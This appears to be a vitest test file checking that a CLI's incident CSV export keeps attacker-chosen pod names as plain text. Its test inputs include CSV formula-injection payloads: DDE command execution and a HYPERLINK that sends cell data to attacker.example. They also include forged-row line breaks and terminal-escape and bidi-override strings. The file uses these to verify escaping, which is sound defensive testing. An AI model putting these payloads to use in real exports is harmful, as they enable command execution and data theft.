import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { FileIncidentStore, main } from '@tourniquet/cli';
import type { IncidentEvent } from '@tourniquet/core';
import { describe, expect, it } from 'vitest';
import { readCsv } from '../helpers/csvReader';

/**
 * A pod name is attacker-chosen (DESIGN §6a): it reaches the incident's title and subject.
 * Exported to CSV and opened in a spreadsheet, it must stay one cell of text.
 */
async function exportCsvWith(pod: string) {
  const file = join(mkdtempSync(join(tmpdir(), 'tourniquet-export-attack-')), 'incidents.json');
  const store = await FileIncidentStore.open(file);
  const opened: IncidentEvent = {
    type: 'opened',
    title: `Execution:Runtime/ReverseShell on pod payments/${pod}`,
    severity: 'HIGH',
    account: '111122223333',
    region: 'us-east-1',
    cluster: 'prod-eks-01',
    subject: pod,
  };
  await store.append('111122223333:us-east-1:prod-eks-01:pod:payments/victim', null, [opened], {
    actor: 'test',
    at: '2026-11-30T10:00:00.000Z',
  });
  await store.append(
    '111122223333:us-east-1:prod-eks-01:pod:payments/other',
    null,
    [{ ...opened, subject: 'pod payments/other', title: 'ordinary' }],
    { actor: 'test', at: '2026-11-30T09:00:00.000Z' },
  );
  let stdout = '';
  const code = await main(['incidents', 'export', '--format', 'csv', '--store', file], {
    stdout: (t) => (stdout += t),
    stderr: () => {},
    cwd: '/',
  });
  expect(code).toBe(0);
  const [header, ...rows] = readCsv(stdout);
  const subject = header?.indexOf('subject') ?? -1;
  const title = header?.indexOf('title') ?? -1;
  // Still exactly one row per incident, each as wide as the header.
  expect(rows).toHaveLength(2);
  expect(rows.every((r) => r.length === header?.length)).toBe(true);
  const row = rows.find((r) => r[subject] !== 'pod payments/other') as string[];
  return { raw: stdout, subject: row[subject], title: row[title] };
}

describe('Incident export: hostile names stay text', () => {
  it('a pod name with commas and quotes stays in its own cell, unchanged', async () => {
    const pod = 'api-0",evil,"=1+1';
    const { subject } = await exportCsvWith(pod);
    expect(subject).toBe(pod);
  });

  it('a pod name with line breaks does not start a new row', async () => {
    const pod = 'api-0\r\n111122223333,forged,row\nthird';
    const { subject } = await exportCsvWith(pod);
    expect(subject).toBe('api-0\n111122223333,forged,row\nthird');
  });

  it.each([
    ["=cmd|' /C calc'!A0"],
    ['+SUM(1,2)'],
    ["-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+9)*cmd|' /C calc'!A0"],
    ['\t=1+1'],
    ['  =HYPERLINK("http://attacker.example/?"&A1,"x")'],
    ['＝1+1'],
  ])('a pod name a spreadsheet would run as a formula (%j) is exported as text', async (pod) => {
    const { subject } = await exportCsvWith(pod);
    expect(subject).toBe(`'${pod}`);
  });

  it('a pod name carrying terminal escapes and bidi overrides loses them', async () => {
    const { raw, subject, title } = await exportCsvWith('api-0\u001b]0;pwned\u0007\u202ecod.exe');
    expect(subject).toBe('api-0cod.exe');
    expect(title).toContain('api-0cod.exe');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: the attack is control characters
    expect(raw.replace(/\r\n/g, '')).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/);
  });
});
